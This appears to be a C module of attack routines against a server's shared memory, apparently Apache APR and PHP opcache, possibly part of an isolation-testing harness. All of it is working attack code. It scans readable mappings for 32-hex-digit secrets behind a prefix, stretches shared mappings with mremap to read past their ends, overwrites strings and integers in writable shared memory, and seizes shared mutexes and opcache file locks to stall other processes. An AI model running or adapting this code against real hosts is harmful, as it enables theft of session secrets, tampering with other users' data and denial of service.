#include "attacks.h"

#include "report.h"

#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

enum { PAGE = 4096, WORD = 32, MAX_MAPPINGS = 8192, MAX_DESCRIPTORS = 1024, ROBUST_AND_SHARED = 0x90, INHERITS = 0x20 };

struct mapping {
    char *begin, *end;
    int is_shared, can_write;
};

static struct mapping mappings[MAX_MAPPINGS];
static sigjmp_buf after_fault;

static void leave_fault(int number)
{
    siglongjmp(after_fault, number);
}

/* All that can be read, but for what the kernel itself puts there. */
static int list_mappings(void)
{
    FILE *maps = fopen("/proc/self/maps", "re");
    char line[4352], mode[8];
    int count = 0;
    if (!maps) {
        say("maps: %s", strerrorname_np(errno));
        return 0;
    }
    while (count < MAX_MAPPINGS && fgets(line, sizeof line, maps)) {
        unsigned long begin, end;
        if (sscanf(line, "%lx-%lx %7s", &begin, &end, mode) != 3 || mode[0] != 'r' || strstr(line, "[v"))
            continue;
        mappings[count++] = (struct mapping){(char *)begin, (char *)end, mode[3] == 's', mode[1] == 'w'};
    }
    fclose(maps);
    return count;
}

static int is_there(char *page)
{
    unsigned char found = 0;
    return mincore(page, PAGE, &found) == 0 && (found & 1);
}

typedef void See(const struct mapping *in, char *begin, char *end, void *with);

/* Each run of pages that are in memory: to look at the others would make them. */
static void see_mapping(const struct mapping *in, See *see, void *with)
{
    char *begin = in->begin;
    for (char *page = in->begin; page <= in->end; page += PAGE) {
        if (page < in->end && is_there(page))
            continue;
        if (begin < page)
            see(in, begin, page, with);
        begin = page + PAGE;
    }
}

static void see_all(See *see, void *with)
{
    const int count = list_mappings();
    signal(SIGSEGV, leave_fault);
    signal(SIGBUS, leave_fault);
    for (volatile int i = 0; i < count; i++)
        if (sigsetjmp(after_fault, 1) == 0)
            see_mapping(&mappings[i], see, with);
}

static int is_word(const char *at, const char *end)
{
    if (end - at < WORD)
        return 0;
    for (int i = 0; i < WORD; i++)
        if (!isxdigit((unsigned char)at[i]))
            return 0;
    return 1;
}

static void see_words(const struct mapping *in, char *begin, char *end, void *with)
{
    const char *prefix = with;
    const size_t length = strlen(prefix);
    for (char *at = begin; (at = memmem(at, (size_t)(end - at), prefix, length)) != NULL; at += length)
        if (is_word(at + length, end))
            say("found in %s memory: %.*s", in->is_shared ? "shared" : "private", WORD, at + length);
}

/* Any word of 32 hexadecimal digits behind the prefix. */
void read_memory(int count, char **words)
{
    (void)count;
    see_all(see_words, words[1]);
}

/* Whatever can be had beyond a mapping's end: larger, a second time and larger, and other pages of its file in its place. */
static void grow(const struct mapping *mapping)
{
    const size_t size = (size_t)(mapping->end - mapping->begin);
    if (mapping->can_write && size == PAGE) {
        for (size_t page = 0; page < 8; page++) {
            char *copy = mremap(mapping->begin, 0, PAGE, MREMAP_MAYMOVE);
            if (copy != MAP_FAILED)
                (void)!remap_file_pages(copy, PAGE, 0, page, 0);
        }
    }
    (void)!mremap(mapping->begin, 0, 2 * size, MREMAP_MAYMOVE);
    (void)!mremap(mapping->begin, size, 2 * size, MREMAP_MAYMOVE);
}

void read_grown_memory(int count, char **words)
{
    const int found = list_mappings();
    int grown = 0;
    (void)count;
    for (int i = 0; i < found; i++)
        if (mappings[i].is_shared) {
            grow(&mappings[i]);
            grown++;
        }
    say("grown: %d", grown);
    see_all(see_words, words[1]);
}

struct change {
    const void *from, *to;
    size_t length;
    int changed;
};

static void change_all(const struct mapping *in, char *begin, char *end, void *with)
{
    struct change *change = with;
    if (!in->is_shared || !in->can_write)
        return;
    for (char *at = begin; (at = memmem(at, (size_t)(end - at), change->from, change->length)) != NULL;
         at += change->length) {
        memcpy(at, change->to, change->length);
        change->changed++;
    }
}

/* In every place of its shared memory, by one of the same length. */
void overwrite_word(int count, char **words)
{
    struct change change = {words[1], words[2], strlen(words[1]), 0};
    (void)count;
    if (strlen(words[2]) == change.length)
        see_all(change_all, &change);
    say("overwritten: %d", change.changed);
}

void overwrite_number(int count, char **words)
{
    const int32_t from = (int32_t)number_of(words[1]), to = (int32_t)number_of(words[2]);
    struct change change = {&from, &to, sizeof from, 0};
    (void)count;
    see_all(change_all, &change);
    say("overwritten: %d", change.changed);
}

/* APR puts such a mutex at the beginning of a page. `with` is what to do with each. */
static void each_mutex(const struct mapping *in, char *begin, char *end, void *with)
{
    void (*const act)(pthread_mutex_t *) = *(void (**)(pthread_mutex_t *))with;
    if (!in->is_shared || !in->can_write)
        return;
    for (char *page = begin; page < end; page += PAGE) {
        pthread_mutex_t *mutex = (pthread_mutex_t *)page;
        if ((mutex->__data.__kind & ~INHERITS) == ROBUST_AND_SHARED)
            act(mutex);
    }
}

static void lock_it(pthread_mutex_t *mutex)
{
    const int error = pthread_mutex_trylock(mutex);
    say("mutex %p: %s", (void *)mutex, error ? strerrorname_np(error) : "ok");
}

static void unlock_own(pthread_mutex_t *mutex)
{
    if (mutex->__data.__owner == gettid())
        pthread_mutex_unlock(mutex);
}

/* The first byte is what opcache waits for when it adds a script; where it can't have the others it does without. */
static void lock_files(void)
{
    for (int descriptor = 3; descriptor < MAX_DESCRIPTORS; descriptor++) {
        struct flock first = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_len = 1};
        struct stat about;
        char what[32];
        if (fstat(descriptor, &about) != 0 || !S_ISREG(about.st_mode) || about.st_nlink != 0)
            continue;
        snprintf(what, sizeof what, "file %lu", (unsigned long)about.st_ino);
        step(what, fcntl(descriptor, F_SETLK, &first));
    }
}

/* Every lock of the modules that is free; until the word to go on, two minutes at the most. */
void hold_locks(int count, char **words)
{
    void (*lock)(pthread_mutex_t *) = lock_it;
    void (*unlock)(pthread_mutex_t *) = unlock_own;
    char text[64];
    int tries = 0;
    (void)count;
    lock_files();
    see_all(each_mutex, &lock);
    say("holding");
    while (wait_for_file(words[1], text, sizeof text) != 0 && ++tries < 4)
        ;
    say("letting go");
    see_all(each_mutex, &unlock);
}
